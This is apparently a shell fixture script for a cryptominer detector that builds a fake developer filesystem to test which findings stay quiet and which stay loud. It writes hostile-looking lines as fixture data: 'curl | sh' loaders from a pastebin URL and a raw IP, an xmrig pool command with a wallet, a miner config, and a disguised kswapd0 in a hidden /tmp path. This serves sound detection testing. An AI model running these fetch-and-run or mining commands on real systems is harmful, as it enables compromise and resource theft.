#!/bin/sh
# Signal over noise (issue 17): a developer's machine with no miner. A git checkout of a
# security tool under /tmp holding test scripts that name pools and download, miner-named
# fixtures and a miner configuration fixture; a Python virtualenv, a node_modules, a CMake
# build directory and a downloaded tarball: all at most low. Beside them what must stay
# loud: a checkout put in a hidden directory, a ".git" that is an empty directory (no
# repository), and a real XMRig inside the checkout (its content is a miner's).
set -eu
r=$1
here=$(cd "$(dirname "$0")" && pwd)
samples=${MINETRACE_SAMPLES:-$here/../../../../shared/data/samples}
[ -f "$samples/xmrig" ] || samples=/work/shared/data/samples
mkdir -p "$r/etc" "$r/tmp" "$r/home/alice" "$r/var/spool/cron/crontabs"
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n' >"$r/etc/passwd"
printf 'root:*:19000:0:99999:7:::\nalice:*:19000:0:99999:7:::\n' >"$r/etc/shadow"
mkrepo() { # a real-looking git repository at $1
	mkdir -p "$1/.git/objects/ab" "$1/.git/refs/heads"
	printf 'ref: refs/heads/main\n' >"$1/.git/HEAD"
	printf '[core]\n\trepositoryformatversion = 0\n' >"$1/.git/config"
	printf 'x' >"$1/.git/objects/ab/cdef0123456789abcdef0123456789abcdef01"
}
p=$r/tmp/sectool
mkrepo "$p"
mkdir -p "$p/tests/live" "$p/tests/fixtures/tmp/.X25-unix/.rsync" "$p/scripts"
cat >"$p/tests/live/pool.sh" <<'SH'
#!/bin/sh
# runs the miner against the test pool
./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1
SH
cat >"$p/scripts/install-deps.sh" <<'SH'
#!/bin/sh
curl -fsSL https://pastebin.com/raw/abc123 | sh
SH
cp /bin/true "$p/tests/fixtures/tmp/.X25-unix/.rsync/kswapd0"
printf '{"pools":[{"url":"pool.supportxmr.com:443","user":"44AFF"}],"donate-level":1}\n' \
	>"$p/tests/fixtures/tmp/.X25-unix/.rsync/config.json"
cp "$samples/xmrig" "$p/tests/fixtures/xmrig-sample"
chmod 0755 "$p"/tests/live/pool.sh "$p"/scripts/install-deps.sh
# a virtualenv, a node_modules, a build tree, a tarball
mkdir -p "$r/home/alice/venv/bin" "$r/tmp/webapp/node_modules/.bin" "$r/tmp/build/bin"
printf 'home = /usr/bin\nversion = 3.11.2\n' >"$r/home/alice/venv/pyvenv.cfg"
cp /bin/true "$r/home/alice/venv/bin/python3"
cp /bin/true "$r/tmp/webapp/node_modules/.bin/esbuild"
printf 'CMAKE_BUILD_TYPE:STRING=Release\n' >"$r/tmp/build/CMakeCache.txt"
cp /bin/true "$r/tmp/build/bin/xmrig"
head -c 4096 /dev/urandom >"$r/tmp/xmrig-6.21.0-linux-static-x64.tar.gz"
chown -R 1000:1000 "$r/home/alice" "$r/tmp/webapp"
# what stays loud
h=$r/tmp/.cache-x/tool
mkrepo "$h"
printf '#!/bin/sh\ncurl -fsSL http://194.38.20.199/ldr.sh | sh\n' >"$h/run.sh"
mkdir -p "$r/tmp/fake/.git"
printf '#!/bin/sh\ncurl -fsSL http://194.38.20.199/ldr.sh | sh\n' >"$r/tmp/fake/run.sh"
chmod 0755 "$h/run.sh" "$r/tmp/fake/run.sh"
